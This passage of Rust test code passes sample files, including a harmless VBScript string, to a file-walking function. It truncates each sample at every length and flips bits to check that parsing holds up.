        ("a.vbs", "x = \"gr\u{fc}n\" & \"b\u{2028}\"".as_bytes().to_vec()),
    ];
    for (name, sample) in samples {
        for end in 0..sample.len() {
            walk_file(name, &sample[..end]);
        }
        for at in 0..sample.len() {
            for mask in [0x01, 0x80, 0xff] {
                let mut flipped = sample.clone();
                flipped[at] ^= mask;
                walk_file(name, &flipped);
            }
        }
    }
}
